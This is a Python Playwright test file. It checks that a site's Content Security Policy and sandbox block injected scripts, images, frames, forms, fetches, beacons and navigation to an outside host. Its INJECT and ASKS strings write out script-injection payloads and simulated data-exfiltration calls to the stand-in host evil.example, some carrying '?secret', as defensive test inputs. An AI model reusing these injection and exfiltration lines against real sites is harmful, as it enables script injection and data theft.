"""What is put into a page or a frame from outside is refused: scripts, pictures, connections."""

from __future__ import annotations

import pytest
from playwright.sync_api import Frame, Page, expect

from testing.browser_fixtures import page_of_visit
from testing.live_app import run_pair
from testing.network import OtherHosts
from testing.paths import ARTICLE
from testing.readers_app import SLUG, ReadersApp
from testing.server import SiteServer
from testing.server.headers_file import read_headers
from testing.small_app import start

__all__ = ["page_of_visit"]

LISTEN = """() => {
  window.refused = [];
  addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
    refused.push(`${effectiveDirective} ${blockedURI.replace(/[?].*|\\/frame$/, "")}`);
  });
}"""

INJECT = """() => {
  const script = document.createElement("script");
  script.textContent = "window.injected = true";
  document.body.append(script);
  document.body.insertAdjacentHTML("beforeend", `
    <img src="https://evil.example/pixel" onerror="window.injected = true">
    <iframe src="https://evil.example/frame"></iframe>
    <video src="https://evil.example/film"></video>
    <link rel="stylesheet" href="https://evil.example/style">
    <form action="https://evil.example/form"><button>Send</button></form>`);
  document.querySelector("form[action='https://evil.example/form']").requestSubmit();
  fetch("https://evil.example/?secret").catch(() => {});
  import("https://evil.example/module").catch(() => {});
  navigator.sendBeacon("https://evil.example/beacon");
}"""

FOREIGN = {
    "img-src https://evil.example/pixel",
    "frame-src https://evil.example",
    "media-src https://evil.example/film",
    "style-src-elem https://evil.example/style",
    "connect-src https://evil.example/",
    "script-src-elem https://evil.example/module",
    "connect-src https://evil.example/beacon",
}
INLINE = {"script-src-elem inline", "script-src-attr inline"}
SENT = {"form-action https://evil.example/form"}
"""A sandbox stops a form before a policy does."""


def expect_refused(where: Page | Frame, refusals: set[str]) -> None:
    where.evaluate(LISTEN)
    where.evaluate(INJECT)
    where.wait_for_function("(count) => new Set(refused).size >= count", arg=len(refusals))
    assert {*where.evaluate("refused")} == refusals


@pytest.mark.refusals_expected
@pytest.mark.errors_expected
@pytest.mark.parametrize("address", [ARTICLE, f"demos/{SLUG}/broken/"])
def test_what_is_put_into_a_page_or_a_demo_is_refused(
    page: Page, server: SiteServer, address: str
) -> None:
    page.goto(server.address + address)

    expect_refused(page, FOREIGN | INLINE | SENT)

    assert page.evaluate("window.injected") is None
    with pytest.raises(Exception, match="unsafe-eval"):
        page.evaluate("new Promise((ok) => setTimeout(ok)).then(() => eval('1'))")


ASKS = """import streamlit as st
import streamlit.components.v1 as components
from js import XMLHttpRequest
from pyodide.http import open_url

def ask(address):
    try:
        return open_url(address).read().strip()[:1]
    except Exception as error:
        return type(error).__name__

st.text(f"{ask('https://evil.example/?secret')}, {ask(ADDRESS)}")
components.html("<p>So:</p><script>document.body.append('A script of its own.')</script>")
st.markdown("![picture](https://evil.example/picture)")
st.html("<style>.stApp { outline: 3px solid rgb(1, 2, 3) }</style>")
"""


@pytest.mark.refusals_expected
@pytest.mark.errors_expected
def test_a_readers_app_asks_nobody_and_runs_its_own_scripts(page: Page, server: SiteServer) -> None:
    reader = ReadersApp(page, server)

    app = reader.run(ASKS.replace("ADDRESS", repr(server.address)))

    # Nor the site itself, but for the runtime and its own scripts.
    expect(app.frame.get_by_text("JsException, JsException")).to_be_visible()
    component = app.frame.frame_locator("iframe")
    expect(component.get_by_text("A script of its own.")).to_be_visible()
    outline = "getComputedStyle(document.querySelector('.stApp')).outlineColor"
    assert app.frame.evaluate(outline) == "rgb(1, 2, 3)"
    expect_refused(app.frame, FOREIGN)
    assert app.frame.evaluate("window.injected") is True


@pytest.mark.refusals_expected
@pytest.mark.errors_expected
def test_a_readers_app_cannot_leave_for_another_host(page: Page, server: SiteServer) -> None:
    reader = ReadersApp(page, server)
    app = reader.run("import streamlit as st\nst.text('begun')")

    page.evaluate(LISTEN)
    app.frame.evaluate("() => { location.href = 'https://evil.example/?secret'; }")

    page.wait_for_function("() => refused.length > 0")
    assert page.evaluate("refused") == ["frame-src https://evil.example"]


@pytest.mark.refusals_expected
@pytest.mark.errors_expected
def test_with_the_headers_of_a_host_that_reads_them_all_runs_and_no_python_asks_others(
    page: Page, server_below: SiteServer, internet: OtherHosts
) -> None:
    server_below.rules = read_headers(server_below.folder / "_headers")
    reader = ReadersApp(page, server_below)
    run_pair(page, SLUG)
    app = reader.run("import streamlit as st\nst.text('begun')")
    expect(app.frame.get_by_text("begun")).to_be_visible()
    assert app.frame.evaluate("window.origin") == "null"

    asks = ASKS.partition("components.html")[0].replace("ADDRESS", repr(server_below.address))
    shared = start(page, server_below, asks)
    expect(shared.frame.get_by_text("JsException, <")).to_be_visible()
    assert internet.asked == []
